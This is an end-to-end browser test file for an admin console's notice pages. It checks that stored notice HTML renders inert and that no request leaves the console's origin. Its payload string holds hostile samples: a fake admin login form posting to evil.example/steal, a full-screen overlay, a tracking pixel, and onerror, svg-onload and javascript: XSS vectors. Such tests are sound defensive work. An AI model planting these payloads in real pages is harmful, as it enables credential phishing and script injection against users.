// @ts-check
/**
 * Server HTML renders inert (issue 11 item 9): a notice whose content holds a full-screen
 * overlay, a fake login form, a remote tracking image and classic XSS payloads (stored through
 * the API as hq.master) shows on its detail page as plain content, runs nothing and makes no
 * request outside the console's origin.
 */
import assert from 'node:assert/strict';
import { e2e } from '../lib/harness.mjs';
import { HQ_MASTER, openSignedIn, settled } from '../lib/helpers.mjs';

const MARKER = '공지 본문 확인용 문장';

const PAYLOAD = [
  `<p>${MARKER}</p>`,
  '<div style="position:fixed;inset:0;z-index:99999;width:100vw;height:100vh;background-color:#fff">점검 중입니다. 다시 로그인해주세요.</div>',
  '<form action="https://evil.example/steal" method="post"><input name="adminId"><input type="password" name="adminPwd"><button type="submit">로그인</button></form>',
  '<img src="https://tracker.example/pixel.gif?u=hq.master" alt="추적 이미지">',
  '<img src="https://evil.example/x.png" onerror="window.__xss=1">',
  '<svg onload="window.__xss=1"></svg>',
  '<a href="javascript:window.__xss=1">자세히 보기</a>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css">',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<table background="https://tracker.example/bg.png"><tbody><tr><td>표</td></tr></tbody></table>',
  '<p><a href="https://m.beancoffee.co.kr/event/1">이벤트 안내</a> <img src="/api/mock/image/1" alt="자체 이미지"></p>',
].join('');

/**
 * Stores `content` as the first notice's HTML through the console's own session, as a content
 * editor's save would; the notice's id.
 * @param {import('playwright-core').Page} page
 * @param {string} content
 */
function storeNoticeContent(page, content) {
  return page.evaluate(async (html) => {
    const list = await (await fetch('/api/notice/list?page=1&size=1')).json();
    const key = list.list[0].id;
    const detail = await (await fetch(`/api/notice/notice/${key}`)).json();
    const saved = await fetch(`/api/notice/notice/${key}`, {
      method: 'PUT',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ ...(detail.data ?? detail), content: html }),
    });
    if (!saved.ok) throw new Error(`PUT /api/notice/notice/${key}: ${saved.status}`);
    return key;
  }, content);
}

e2e(
  'a notice with overlay, fake-login, tracking and script payloads renders inert on its detail, with no outside request',
  async ({ page, context, baseURL, watch }) => {
    const origin = new URL(baseURL).origin;
    /** @type {string[]} */
    const outside = [];
    context.on('request', (request) => {
      const url = request.url();
      if (/^https?:/.test(url) && new URL(url).origin !== origin) outside.push(url);
    });
    /** @type {string[]} */
    const dialogs = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });

    await openSignedIn(page, HQ_MASTER, '/notice');
    const id = await storeNoticeContent(page, PAYLOAD);

    await page.goto(`/notice/${id}/show`);
    await page.getByText(MARKER).waitFor();
    await page.getByRole('link', { name: '외부 이미지: 추적 이미지' }).waitFor();
    await settled(page, watch);

    const found = await page.evaluate((marker) => {
      const paragraph = [...document.querySelectorAll('p')].find((p) => p.textContent === marker);
      const box = paragraph?.parentElement;
      if (!box) return undefined;
      const inside = [...box.querySelectorAll('*')];
      return {
        forbidden: inside
          .filter((el) => /^(form|input|button|textarea|select|iframe|object|embed|style|script|svg|link|meta|base)$/i.test(el.tagName))
          .map((el) => el.tagName),
        positioned: inside.filter((el) => getComputedStyle(el).position !== 'static').map((el) => el.outerHTML.slice(0, 80)),
        handlers: inside.flatMap((el) => el.getAttributeNames().filter((name) => name.startsWith('on'))),
        images: inside.filter((el) => el.tagName === 'IMG').map((el) => /** @type {HTMLImageElement} */ (el).src),
        links: inside
          .filter((el) => el.tagName === 'A')
          .map((el) => ({ href: el.getAttribute('href'), rel: el.getAttribute('rel'), target: el.getAttribute('target') })),
        text: box.textContent,
        xss: /** @type {Window & { __xss?: unknown }} */ (window).__xss,
        centre: document.elementFromPoint(innerWidth / 2, innerHeight / 2)?.closest('main, [class*="RaLayout"]') !== null,
        resources: performance
          .getEntriesByType('resource')
          .map((entry) => entry.name)
          .filter((name) => !name.startsWith(location.origin) && /^https?:/.test(name)),
      };
    }, MARKER);

    assert.ok(found, 'the notice content is on the page');
    assert.deepEqual(found.forbidden, [], 'no form, control, frame, embed, style or script element');
    assert.deepEqual(found.positioned, [], 'nothing of the content is positioned (no overlay)');
    assert.deepEqual(found.handlers, [], 'no event handler attribute');
    assert.deepEqual(found.images, [`${origin}/api/mock/image/1`], 'only the own-origin image is an image');
    assert.deepEqual(
      found.links.map((link) => link.href),
      ['https://tracker.example/pixel.gif?u=hq.master', 'https://evil.example/x.png', null, 'https://m.beancoffee.co.kr/event/1'],
      'remote images became links; the javascript: link lost its address',
    );
    for (const link of found.links.filter((candidate) => candidate.href))
      assert.deepEqual([link.rel, link.target], ['noopener noreferrer', '_blank'], String(link.href));
    assert.ok(found.text?.includes('점검 중입니다. 다시 로그인해주세요.'), 'the overlay text stays, as plain text');
    assert.ok(!found.text?.includes('로그인해주세요.로그인'), 'the fake form and its button are gone');
    assert.equal(found.xss, undefined, 'no script ran');
    assert.ok(found.centre, "the centre of the screen is the console's own frame");
    assert.deepEqual(found.resources, [], 'the page loaded nothing from outside its origin');
    assert.deepEqual(outside, [], 'the browser requested nothing outside the console');
    assert.deepEqual(dialogs, [], 'no alert or prompt');
  },
);

e2e(
  'the edit form of a notice holding an outside image gives its editor sanitized HTML: no request leaves the console',
  async ({ page, context, baseURL, watch }) => {
    const origin = new URL(baseURL).origin;
    /** @type {string[]} */
    const outside = [];
    context.on('request', (request) => {
      const url = request.url();
      if (/^https?:/.test(url) && new URL(url).origin !== origin) outside.push(url);
    });
    await openSignedIn(page, HQ_MASTER, '/notice');
    const content = `<p>${MARKER}</p><img src="https://tracker.example/pixel.gif?u=edit" alt="추적 이미지"><img src="/api/mock/image/1" alt="자체 이미지">`;
    const id = await storeNoticeContent(page, content);

    await page.goto(`/notice/${id}`);
    await page.getByRole('button', { name: '공지 내용 편집하기' }).click();
    const editor = page.getByRole('textbox', { name: '공지 내용 편집기' });
    await editor.getByText(MARKER).waitFor();
    await editor.getByRole('link', { name: '외부 이미지: 추적 이미지' }).waitFor();
    await settled(page, watch);
    const images = await editor.locator('img').evaluateAll((found) => found.map((image) => /** @type {HTMLImageElement} */ (image).src));
    assert.deepEqual(images, [`${origin}/api/mock/image/1`], "only the console's own image is drawn in the editor");
    const resources = await page.evaluate(() =>
      performance
        .getEntriesByType('resource')
        .map((entry) => entry.name)
        .filter((name) => !name.startsWith(location.origin) && /^https?:/.test(name)),
    );
    assert.deepEqual(resources, [], 'the page loaded nothing from outside its origin');
    assert.deepEqual(outside, [], 'the browser requested nothing outside the console');
  },
);
